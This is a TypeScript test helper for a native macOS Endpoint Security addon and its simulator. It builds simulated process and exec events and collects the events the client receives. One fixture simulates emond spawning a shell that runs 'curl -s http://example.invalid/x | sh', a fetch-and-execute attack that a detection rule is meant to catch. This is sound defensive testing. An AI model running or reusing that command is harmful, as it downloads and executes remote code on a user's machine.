/**
 * Shared helpers for tests that drive the native addon through the ES simulator. Loading goes
 * through loadNativeAddon(), so a missing addon FAILS these tests with its actionable message
 * (E_ADDON_MISSING: "run npm run build:native …") instead of skipping them.
 */
import { loadNativeAddon } from '../../src/native/addon.js';
import type {
  EsClient,
  EsClientOptions,
  NativeAddon,
  NativeDropInfo,
  NativeEvent,
  SimMessageSpec,
  SimProcessSpec,
  SimulatorControls,
} from '../../src/native/addon.js';

export function addon(): NativeAddon {
  return loadNativeAddon();
}

export function sim(): SimulatorControls {
  const loaded = loadNativeAddon();
  if (!loaded.sim) throw new Error(`these tests need the simulator build of the addon (backend is ${loaded.backend})`);
  return loaded.sim;
}

export const EMOND = '/sbin/emond';

/** What the simulated process table holds until a test sets its own. */
export const LAUNCHD = { pid: 1, ppid: 0, pidversion: 1, executable: '/sbin/launchd' };

/** emond (pid 300) forks 301, which execs /bin/sh -c "curl …": the attack the rule exists for. */
export function emondShellExec(overrides: Partial<SimMessageSpec> = {}): SimMessageSpec {
  return {
    type: 'exec',
    version: 7,
    time: { sec: 1_754_572_895, nsec: 880_814_738 },
    process: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND, startTime: { sec: 1_754_572_895, usec: 877_422 } },
    target: shProcess(),
    args: ['/bin/sh', '-c', 'curl -s http://example.invalid/x | sh'],
    cwd: '/',
    ...overrides,
  };
}

export function shProcess(overrides: Partial<SimProcessSpec> = {}): SimProcessSpec {
  return {
    pid: 301,
    pidversion: 12,
    ppid: 300,
    originalPpid: 300,
    auid: 4294967295,
    euid: 0,
    egid: 0,
    ruid: 0,
    rgid: 0,
    asid: 100001,
    codesigningFlags: 0x2000_0001,
    isPlatformBinary: true,
    cdhash: '28CD2C759132B07D63C3A2B377AD440A6C66098E',
    signingId: 'com.apple.sh',
    teamId: '',
    executable: '/bin/sh',
    startTime: { sec: 1_754_572_895, usec: 877_422 },
    parent: { pid: 300, pidversion: 7 },
    responsible: { pid: 300, pidversion: 7 },
    ...overrides,
  };
}

export interface Collector {
  client: EsClient;
  events: NativeEvent[];
  errors: unknown[];
  drops: NativeDropInfo[];
  /** How many events each batch handed to JavaScript held, in order. */
  batchSizes: number[];
  /** Resolves once `count` events arrived (rejects after `timeoutMs`). */
  waitFor(count: number, timeoutMs?: number): Promise<NativeEvent[]>;
}

const live = new Set<EsClient>();

/** Starts a client that records everything it receives. */
export function collect(options: EsClientOptions = {}): Collector {
  const Client = addon().EsClient;
  const client = new Client(options);
  const events: NativeEvent[] = [];
  const errors: unknown[] = [];
  const drops: NativeDropInfo[] = [];
  const batchSizes: number[] = [];
  let waiter: { count: number; resolve: () => void } | undefined;
  client.start(
    (batch, dropInfo) => {
      events.push(...batch);
      batchSizes.push(batch.length);
      drops.push(dropInfo);
      if (waiter && events.length >= waiter.count) waiter.resolve();
    },
    (error) => errors.push(error),
  );
  live.add(client);
  return {
    client,
    events,
    errors,
    drops,
    batchSizes,
    waitFor(count, timeoutMs = 10_000) {
      if (events.length >= count) return Promise.resolve(events);
      return new Promise((resolve, reject) => {
        const timer = setTimeout(
          () => reject(new Error(`waited ${timeoutMs} ms for ${count} events, got ${events.length}: ${JSON.stringify(client.stats())}`)),
          timeoutMs,
        );
        waiter = {
          count,
          resolve: () => {
            clearTimeout(timer);
            resolve(events);
          },
        };
      });
    },
  };
}

/** Stops every client collect() started and restores the simulator's defaults. */
export function resetSimulator(): void {
  for (const client of live) client.stop();
  live.clear();
  const controls = sim();
  controls.setNewClientResult(0);
  controls.clearFaults();
  // As a fresh simulator starts: a running system is never without launchd.
  controls.setProcessTable([LAUNCHD]);
  controls.clearLogRecords();
  controls.resetHandlerTiming();
}

/** Injects and waits until the simulated ES thread handled everything. */
export function deliver(messages: SimMessageSpec[]): void {
  const controls = sim();
  controls.inject(messages);
  if (!controls.waitUntilIdle(10_000)) throw new Error('the simulated ES thread did not go idle');
}

/**
 * Waits until everything the client's ES handler received has reached JavaScript or was counted
 * as a queue drop. After deliver() (the simulated ES thread is idle) that is every message: the
 * delivery thread still has to be scheduled, which on a loaded machine takes tens of ms.
 */
export async function handedOver(
  stats: () => { received: number; delivered: number; queueDrops: number },
  timeoutMs = 10_000,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  for (let s = stats(); s.delivered + s.queueDrops < s.received; s = stats()) {
    if (Date.now() > deadline) throw new Error(`waited ${timeoutMs} ms for the hand-off to JavaScript: ${JSON.stringify(s)}`);
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}

/** Lets pending thread-safe-function calls run (to check that nothing more arrives). */
export function settle(ms = 30): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
